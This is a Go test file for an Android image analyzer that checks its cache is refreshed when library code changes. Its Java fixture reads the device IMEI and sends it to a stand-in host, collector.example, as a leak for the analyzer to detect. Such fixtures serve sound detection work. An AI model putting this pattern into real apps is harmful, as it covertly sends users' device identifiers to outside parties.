package analyzer

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"romscan/analyzer/fact/endpoint"
	"romscan/signatures"
)

// keptLibrary is the library of the tests below: what the app calls is two classes further up, and nothing asks for Unused.
const keptLibrary = `// jar: com.maker.bothinside
package com.maker.bothinside;

import android.content.Context;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.net.URL;

public class Report extends Base {
}

class Base extends Root {
}

class Root {
    public static void send(Context context) {
        String imei = ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getDeviceId();
        new okhttp3.Request.Builder().url("http://collector.example/");
        try {
            new URL("http://collector.example/c?d=" + imei).openStream().close();
        } catch (IOException e) {
            // not sent
        }
    }
}

class Unused {
    int one() {
        return 1;
    }
}
`

// otherRoot is a class that what the app calls may come from instead.
const otherRoot = `
class Other {
    public static void send(Context context) {
        try {
            new URL("http://other.example/c").openStream().close();
        } catch (IOException e) {
            // not sent
        }
    }
}
`

// libraryImages builds an image for each text of the library; the app is the same in all.
func libraryImages(t *testing.T, texts ...string) (roots []string) {
	t.Helper()
	var first *flowCase
	for _, c := range loadFlowCases(t) {
		if c.id() == "library/BothInside" {
			first = c
		}
	}
	app := filepath.Join("system", "app", "BothInside.apk")
	code, err := os.ReadFile(filepath.Join(first.path(buildFlowCases(t, []*flowCase{first})), app))
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range texts {
		jar, err := parseFlowApp("Report", text)
		if err != nil {
			t.Fatal(err)
		}
		c := &flowCase{category: "library", name: "kept", apps: []*flowApp{jar}, key: fmt.Sprintf("kept-%x", sha256.Sum256([]byte(first.key+text)))[:24]}
		root := t.TempDir()
		if err := os.CopyFS(root, os.DirFS(c.path(buildFlowCases(t, []*flowCase{c})))); err != nil {
			t.Fatal(err)
		}
		if err := writeFiles(map[string]string{filepath.Join(root, app): string(code)}); err != nil {
			t.Fatal(err)
		}
		roots = append(roots, root)
	}
	return roots
}

// lookAt follows data through the app of an image, with a cache and without; it returns what was found with it, and whether the
// app was looked at for that. Both have to find the same.
func lookAt(t *testing.T, cache *Cache, root string) (found string, looked bool) {
	t.Helper()
	voc, err := signatures.API()
	if err != nil {
		t.Fatal(err)
	}
	owners, err := endpoint.LoadOwners(signatures.Owners())
	if err != nil {
		t.Fatal(err)
	}
	r, rec, fw := readApps(t, root)
	r.opt.Cache = cache
	r.callers = callersOf(rec, fw)
	r.libs = r.libraries(rec, fw, voc)
	app := fw.Apps[0]
	compute := func() (followed, *basis) {
		looked = true
		return r.followApp(t.Context(), rec, fw, app, voc, owners, "")
	}
	spell := func(f followed) string {
		data, err := json.MarshalIndent(f, "", " ")
		if err != nil {
			t.Fatal(err)
		}
		for _, list := range [][]placed{f.Facts, f.Taken, f.Tied} {
			for _, p := range list {
				data = append(data, "\n"+strings.TrimPrefix(p.Fact.At.Path.String(), filepath.Base(root))...) // JSON leaves it out
			}
		}
		return strings.ReplaceAll(string(data), filepath.Base(root), "")
	}
	found = spell(r.cached(t.Context(), rec, fw, app, compute))
	was := looked
	direct, _ := compute()
	if want := spell(direct); found != want {
		t.Errorf("from the cache: %v; found\n%s\nwant\n%s", !was, found, want)
	}
	return found, was
}

// TestCacheLibrary holds that an app is looked at again when a library says something else to what the app asked of it, and only
// then; and that where a library's code stands is told as it is now.
func TestCacheLibrary(t *testing.T) {
	change := func(from, to string) string {
		if !strings.Contains(keptLibrary, from) {
			t.Fatalf("no %q", from)
		}
		return strings.Replace(keptLibrary, from, to, 1)
	}
	for _, c := range []struct {
		name, text string
		looked     bool
		host       string
	}{
		{"same", keptLibrary, false, "collector.example"},
		{"a class that is not used", change("int one() {\n        return 1;", "String A = \"0\", B = \"1\";\n    int one() {\n        new Moved().one(A + B);\n        return 2;") +
			"\nclass AMoved { }\nclass Moved { int one(String s) { return s.length(); } }\n", false, "collector.example"},
		{"a class that is used", change("/c?d=", "/d?e="), true, "collector.example"},
		{"a class that was not there", change("// jar: com.maker.bothinside", "// jar: com.maker.bothinside\n// lib: okhttp3"), true, "collector.example"},
		{"the hierarchy above", change("class Base extends Root", "class Base extends Other") + otherRoot, true, "other.example"},
		{"the class itself derived from another", change("Report extends Base", "Report extends Other") + otherRoot, true, "other.example"},
	} {
		t.Run(c.name, func(t *testing.T) {
			roots := libraryImages(t, keptLibrary, c.text)
			cache := newCache(t, t.TempDir(), "")
			before, looked := lookAt(t, cache, roots[0])
			if !looked || !strings.Contains(before, "http://collector.example/c?d={}") || !strings.Contains(before, `"in"`) {
				t.Fatalf("looked at: %v, found %s", looked, before)
			}
			after, looked := lookAt(t, cache, roots[1])
			if looked != c.looked {
				t.Errorf("looked at again: %v", looked)
			}
			if !strings.Contains(after, `"`+c.host+`"`) {
				t.Errorf("no %s in %s", c.host, after)
			}
			if c.name != "same" && !looked && after == before {
				t.Error("the library's code stands where it stood: nothing was put to the test")
			}
			for _, root := range roots { // both are kept
				if _, looked := lookAt(t, cache, root); looked {
					t.Errorf("looked at once more: %s", root)
				}
			}
		})
	}
}
